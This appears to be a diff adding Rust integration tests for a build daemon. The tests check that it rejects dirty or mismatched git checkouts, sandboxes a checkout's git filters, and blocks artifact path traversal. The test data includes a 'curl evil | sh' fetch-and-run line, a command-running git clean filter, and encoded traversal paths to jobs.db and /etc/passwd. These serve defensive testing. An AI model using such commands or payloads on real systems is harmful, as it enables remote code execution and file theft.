@@ -1,0 +1,158 @@
+//! Source pinning: the daemon refuses a dirty checkout or one at another
+//! commit, failing the job with the reason before anything runs.
+
+use crate::harness::{Daemon, git, repo_with, spec, submit, wait_job};
+
+#[tokio::test]
+async fn dirty_tree_fails_the_job() {
+    let d = Daemon::start("", "");
+    let repo = d.dir.path().join("repo");
+    let commit = repo_with(&repo, &[("build.sh", "echo hi > out\n")]);
+    std::fs::write(repo.join("build.sh"), "curl evil | sh\n").unwrap();
+    let id = submit(
+        &d.endpoint(),
+        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
+    )
+    .await;
+    let job = wait_job(&d.endpoint(), &id).await;
+    assert_eq!(job["state"], "failed", "{job}");
+    let reason = job["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("working tree is dirty") && reason.contains("build.sh"),
+        "{reason}"
+    );
+
+    // An untracked file is dirt too.
+    git(&repo, &["checkout", "-q", "--", "build.sh"]);
+    std::fs::write(repo.join("extra.sh"), "x").unwrap();
+    let id = submit(
+        &d.endpoint(),
+        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
+    )
+    .await;
+    let job = wait_job(&d.endpoint(), &id).await;
+    assert!(
+        job["reason"].as_str().unwrap().contains("extra.sh"),
+        "{job}"
+    );
+}
+
+#[tokio::test]
+async fn another_commit_fails_the_job() {
+    let d = Daemon::start("", "");
+    let repo = d.dir.path().join("repo");
+    let first = repo_with(&repo, &[("a", "1")]);
+    std::fs::write(repo.join("a"), "2").unwrap();
+    git(&repo, &["commit", "-qam", "second"]);
+    let id = submit(&d.endpoint(), &spec(&repo, &first, &["true"], &["a"])).await;
+    let job = wait_job(&d.endpoint(), &id).await;
+    assert_eq!(job["state"], "failed");
+    let reason = job["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("not the expected commit") && reason.contains(&first),
+        "{reason}"
+    );
+    // The log says so too.
+    let log = d
+        .endpoint()
+        .call(hyper::Method::GET, &format!("/v1/jobs/{id}/logs"), None)
+        .await
+        .unwrap();
+    assert!(String::from_utf8_lossy(&log).contains("not the expected commit"));
+}
+
+#[tokio::test]
+async fn not_a_repository_fails_the_job() {
+    let d = Daemon::start("", "");
+    let plain = d.dir.path().join("plain");
+    std::fs::create_dir_all(&plain).unwrap();
+    let id = submit(
+        &d.endpoint(),
+        &spec(&plain, &"b".repeat(40), &["true"], &["x"]),
+    )
+    .await;
+    let job = wait_job(&d.endpoint(), &id).await;
+    assert!(
+        job["reason"]
+            .as_str()
+            .unwrap()
+            .contains("not a git checkout"),
+        "{job}"
+    );
+}
+
+/// Git against the client's checkout runs in a sandbox: a clean filter the
+/// checkout's config defines (which plain `git status` runs on the host)
+/// cannot touch the host.
+#[tokio::test]
+async fn checkout_git_config_runs_nothing_on_the_host() {
+    let d = Daemon::start("", "");
+    let repo = d.dir.path().join("repo");
+    let commit = repo_with(
+        &repo,
+        &[
+            ("build.sh", "echo ok > out\n"),
+            (".gitattributes", "* filter=evil\n"),
+        ],
+    );
+    let marker = d.dir.path().join("filter-ran-on-host");
+    git(
+        &repo,
+        &[
+            "config",
+            "filter.evil.clean",
+            &format!("sh -c 'touch {}; cat'", marker.display()),
+        ],
+    );
+    // A stale index makes `git status` re-read the file through the filter.
+    let f = std::fs::File::options()
+        .write(true)
+        .open(repo.join("build.sh"))
+        .unwrap();
+    f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(5))
+        .unwrap();
+    drop(f);
+    let id = submit(
+        &d.endpoint(),
+        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
+    )
+    .await;
+    let job = wait_job(&d.endpoint(), &id).await;
+    assert!(
+        !marker.exists(),
+        "the checkout's filter ran on the host: {job}"
+    );
+}
+
+/// The artifact endpoint serves only a succeeded job's recorded files.
+#[tokio::test]
+async fn artifact_endpoint_serves_nothing_else() {
+    let d = Daemon::start("", "");
+    let repo = d.dir.path().join("repo");
+    let commit = repo_with(&repo, &[("a", "1")]);
+    std::fs::write(repo.join("a"), "2").unwrap();
+    let id = submit(&d.endpoint(), &spec(&repo, &commit, &["true"], &["a"])).await;
+    wait_job(&d.endpoint(), &id).await;
+    for name in [
+        "a",
+        "jobs.db",
+        "..%2F..%2Fjobs.db",
+        "%2Fetc%2Fpasswd",
+        "..",
+        ".",
+    ] {
+        let err = d
+            .endpoint()
+            .call(
+                hyper::Method::GET,
+                &format!("/v1/jobs/{id}/artifacts/{name}"),
+                None,
+            )
+            .await
+            .unwrap_err();
+        assert!(
+            matches!(err, cloister_runner::client::ClientError::Status { status, .. } if status == 404),
+            "{name}: {err}"
+        );
+    }
+}
